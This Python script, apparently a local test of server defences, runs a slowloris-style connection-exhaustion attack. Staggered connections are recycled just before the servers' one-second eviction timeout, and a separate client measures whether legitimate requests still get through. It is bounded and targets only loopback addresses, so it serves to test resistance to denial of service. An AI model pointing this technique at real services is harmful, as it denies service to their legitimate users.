#!/usr/bin/env python3
"""Attack on the eviction of file-download serve (SLOW_REQUEST 1 s) and http-server (SLOW_HEAD
1 s): ADDRS x PER connections that never finish a request and are each closed and reopened at
age CYCLE s (< 1 s), staggered, so no attacker place is ever old enough to be given away.
Victim (see VICTIM below): mode 'list' asks file-download LIST every 0.5 s (fresh connection); mode
'slowreq' sends 'LI', 1.5 s later 'ST\\n' (a slow link), one at a time; mode 'http' asks
http-server GET /a.txt every 0.5 s (200 is ok, 503 busy); mode 'keepalive' asks it every 0.5 s
on one keep-alive connection ('+' answered on it, 'r' answered on a new one after the server
closed it between two requests, 'x' a request lost to a close); mode 'httpslow' sends the
request line, and the rest of its head 1.5 s later (a slow link), one at a time. Bounded: ADDRS*PER <= 512, SECS <= 60.
The victim connects from $VICTIM (default 127.0.0.1; the attacker's are 127.0.0.2 and up).
usage: young_places.py PORT ADDRS PER CYCLE SECS list|slowreq|http|httpslow|keepalive"""
import os, socket, sys, time, selectors, threading
port, addrs, per, cycle, secs, mode = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]), sys.argv[6]
assert addrs * per <= 512 and secs <= 60
VICTIM = os.environ.get("VICTIM", "127.0.0.1")
stop = time.monotonic() + secs
def opened(src):
    s = socket.socket(); s.bind((src, 0)); s.setblocking(False)
    try: s.connect(("127.0.0.1", port))
    except BlockingIOError: pass
    return s
res = []
def answered(r):
    """Whether r holds a whole answer: a head and the body its Content-Length announces."""
    if b"\r\n\r\n" not in r: return False
    head, body = r.split(b"\r\n\r\n", 1)
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return len(body) >= int(value.strip())
    return True
def keepalive():
    """One keep-alive connection, a GET every 0.5 s: '+' answered on it; 'r' it had been
    closed while idle (seen before the request, as urllib3 does), answered on a new one;
    'x' closed after the request was sent (the request lost); '5' 503."""
    v = None
    while time.monotonic() < stop - 2:
        t = time.monotonic()
        mark = "+"
        try:
            if v is not None:
                v.setblocking(False)
                try: gone = v.recv(1, socket.MSG_PEEK) == b""
                except BlockingIOError: gone = False
                except OSError: gone = True
                v.settimeout(5)
                if gone: v.close(); v = None; mark = "r"
            if v is None:
                v = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(VICTIM, 0))
            v.sendall(b"GET /a.txt HTTP/1.1\r\nHost: x\r\n\r\n")
            r = b""
            # The whole answer: its head, then as many bytes of body as Content-Length says.
            while not answered(r):
                d = v.recv(4096)
                if not d: break
                r += d
                if r.startswith(b"HTTP/1.1 503"): break
            if r.startswith(b"HTTP/1.1 200") and b"\r\n\r\n" in r: res.append(mark)
            elif r.startswith(b"HTTP/1.1 503"): res.append("5"); v.close(); v = None
            else: res.append("x"); v.close(); v = None
        except OSError:
            res.append("x")
            if v is not None: v.close()
            v = None
        time.sleep(max(0, 0.5 - (time.monotonic() - t)))
def victim():
    if mode == "keepalive":
        return keepalive()
    while time.monotonic() < stop - 2:
        t = time.monotonic()
        try:
            v = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(VICTIM, 0))
            if mode == "list":
                v.sendall(b"LIST\n")
            elif mode == "http":
                v.sendall(b"GET /a.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            elif mode == "httpslow":
                v.sendall(b"GET /a.txt HTTP/1.1\r\n"); time.sleep(1.5)
                v.sendall(b"Host: x\r\nConnection: close\r\n\r\n")
            else:
                v.sendall(b"LI"); time.sleep(1.5); v.sendall(b"ST\n")
            r = v.recv(100); v.close()
            ok = r.startswith(b"OK") or r.startswith(b"HTTP/1.1 200")
            busy = r.startswith(b"ERR busy") or r.startswith(b"HTTP/1.1 503")
            res.append("+" if ok else "5" if busy else "x" if not r else "?")
        except OSError: res.append("x")
        time.sleep(max(0, 0.5 - (time.monotonic() - t)))
th = threading.Thread(target=victim)
conns = []  # [sock, src, opened_at]
n = addrs * per
t0 = time.monotonic()
for i in range(n):
    src = f"127.0.0.{2 + i % addrs}"
    # staggered ages: place i opened as if i/n*cycle ago
    conns.append([opened(src), src, t0 - cycle * i / n])
time.sleep(0.3)
th.start()
reopen = 0; busy = 0
while time.monotonic() < stop:
    now = time.monotonic()
    for c in conns:
        dead = False
        try:
            d = c[0].recv(100, socket.MSG_DONTWAIT)
            if d.startswith(b"ERR busy") or d.startswith(b"HTTP/1.1 503"): busy += 1
            dead = True
        except BlockingIOError: pass
        except OSError: dead = True
        if dead or now - c[2] >= cycle:
            c[0].close(); c[0] = opened(c[1]); c[2] = now; reopen += 1
            try: c[0].send(b"G")
            except OSError: pass
    time.sleep(0.01)
th.join()
ok = res.count('+') + res.count('r')
print(f"{addrs}x{per} cycle {cycle}s: {reopen} reopens, attacker told busy {busy}; victim ({mode}) ok={ok} busy={res.count('5')} other={len(res)-ok-res.count('5')}")
print("victim:", "".join(res))
